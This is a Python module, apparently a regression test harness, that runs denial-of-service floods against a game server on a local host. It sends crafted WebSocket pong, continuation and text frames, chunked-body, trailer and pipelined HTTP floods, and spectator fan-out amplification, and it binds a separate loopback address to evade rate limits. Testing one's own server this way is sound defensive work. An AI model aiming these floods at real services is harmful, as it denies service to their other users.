"""Attacks of a single client: `python -m proofs.flood.harms NAME PORT` runs one until its input ends.

It prints `under way` when everything has been tried once. Each attack once made a server's other clients wait
for seconds.
"""

import asyncio
import sys
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from typing import Final

import msgspec
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import WebSocketException

from parlour.client import Client, Socket
from parlour.protocol import client_messages
from proofs.flood.attackers import HANDSHAKE, HOST

MASK: Final = bytes(4)
PONG: Final = b"\x8a\x80" + MASK
FIRST_FRAGMENT: Final = b"\x01\x81" + MASK + b"x"
CONTINUATION: Final = b"\x00\x80" + MASK
TEXT: Final = b"\x81\x82" + MASK + b"{}"
CHUNKED: Final = b"POST /api/guest HTTP/1.1\r\nHost: here\r\nTransfer-Encoding: chunked\r\n\r\n"
ASK: Final = b"GET /api/health HTTP/1.1\r\nHost: here\r\n\r\n"
LARGE: Final = b"GET /api/openapi.json HTTP/1.1\r\nHost: here\r\n\r\n"
WATCHERS: Final = 200
PAUSE_S: Final = 0.2
WRITE_BYTES: Final = 2**19
FROM: Final = ("127.9.0.1", 0)
"""The attacker's address. It differs from the visitor's so that they do not share rate limits."""


Harm = Callable[[int], Awaitable[None]]
"""Attacks the server at a port once."""


def socket_flood(frame: bytes, times: int, first: bytes = b"") -> Harm:
    async def harm(port: int) -> None:
        reader, writer = await asyncio.open_connection(HOST, port, local_addr=FROM)
        writer.write(HANDSHAKE + b"\r\n")
        await reader.readuntil(b"\r\n\r\n")
        await _pour(reader, writer, first, frame, times)

    return harm


def http_flood(first: bytes, piece: bytes, times: int, *, reads: bool = True) -> Harm:
    async def harm(port: int) -> None:
        reader, writer = await asyncio.open_connection(HOST, port, local_addr=FROM)
        await _pour(reader, writer, first, piece, times, reads=reads)

    return harm


async def _pour(
    reader: asyncio.StreamReader,
    writer: asyncio.StreamWriter,
    first: bytes,
    piece: bytes,
    times: int,
    *,
    reads: bool = True,
) -> None:
    """Send *first*, then *piece* repeatedly, as fast as the server takes it."""
    reading = asyncio.ensure_future(_drain(reader)) if reads else None
    at_once = max(1, WRITE_BYTES // len(piece))
    with suppress(OSError, TimeoutError):
        async with asyncio.timeout(20):
            writer.write(first)
            for done in range(0, times, at_once):
                writer.write(piece * min(at_once, times - done))
                await writer.drain()
    writer.transport.abort()
    if reading is not None:
        await reading


async def _drain(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(2**16):
            pass


class Crowd:
    """Watchers of a table at which the attacker plays both seats."""

    def __init__(self, game: str, *, has_languages: bool = False) -> None:
        self._game, self._has_languages = game, has_languages
        self._players: list[Socket] = []
        self._watchers: list[ClientConnection] = []
        self._reading: list[asyncio.Task[None]] = []
        self._table, self._moves = "", 0

    async def move(self, port: int) -> None:
        """Makes one move of Hex, which is sent to every watcher."""
        await self._open(port)
        mark = msgspec.Raw(msgspec.json.encode({"type": "place", "cell": self._moves}))
        await self._players[self._moves % 2].act(self._table, mark)
        self._moves += 1

    async def sync(self, port: int) -> None:
        """Makes every watcher request the whole table."""
        await self._open(port)
        sync = msgspec.json.encode(client_messages.Sync(self._table)).decode()
        for socket in self._watchers:
            with suppress(OSError, WebSocketException):
                await socket.send(sync)

    async def _open(self, port: int) -> None:
        if self._watchers:
            return
        url = f"http://{HOST}:{port}"
        ann, ben = await Client(url).guest("Mallory"), await Client(url).guest("Marvin")
        self._table = (await ann.make(self._game)).id
        await ben.join(self._table)
        await ann.start(self._table)
        self._players = [await ann.socket(), await ben.socket()]
        for number in range(WATCHERS):
            socket = await connect(f"ws://{HOST}:{port}/socket", local_addr=FROM, compression=None)
            language = f"x{number}" if self._has_languages else "en"
            watch = client_messages.Watch(self._table, True, language, as_spectator=True, scene=True)
            await socket.send(msgspec.json.encode(watch).decode())
            self._watchers.append(socket)
            self._reading.append(asyncio.ensure_future(_ignore(socket)))


async def _ignore(socket: ClientConnection) -> None:
    with suppress(OSError, WebSocketException):
        while True:
            await socket.recv(decode=False)


HARMS: Final[Mapping[str, Harm]] = {
    "pongs": socket_flood(PONG, 10 * 2**20 // len(PONG)),
    "continuations": socket_flood(CONTINUATION, 500_000, FIRST_FRAGMENT),
    "texts": socket_flood(TEXT, 3 * 2**19 // len(TEXT)),
    "trailers": http_flood(CHUNKED + b"1\r\n{\r\n0\r\nX: ", b"y" * 1000, 120_000),
    "chunks": http_flood(CHUNKED, b"1\r\nx\r\n", 2_000_000),
    "second-head": http_flood(LARGE + b"GET / HTTP/1.1\r\nX: ", b"y" * 1000, 40_000, reads=False),
    "pipelined": http_flood(b"", ASK, 14_000),
    "languages": Crowd("hex", has_languages=True).move,
    "syncs": Crowd("imperial").sync,
}


async def _harm(name: str, port: int) -> None:
    harm = HARMS[name]
    ended = asyncio.ensure_future(asyncio.to_thread(sys.stdin.buffer.read))
    is_first = True
    while not ended.done():
        with suppress(OSError, asyncio.IncompleteReadError):
            await harm(port)
        if is_first:
            is_first = False
            sys.stdout.write("under way\n")
            sys.stdout.flush()
        await asyncio.wait([ended], timeout=PAUSE_S)


if __name__ == "__main__":
    asyncio.run(_harm(sys.argv[1], int(sys.argv[2])))
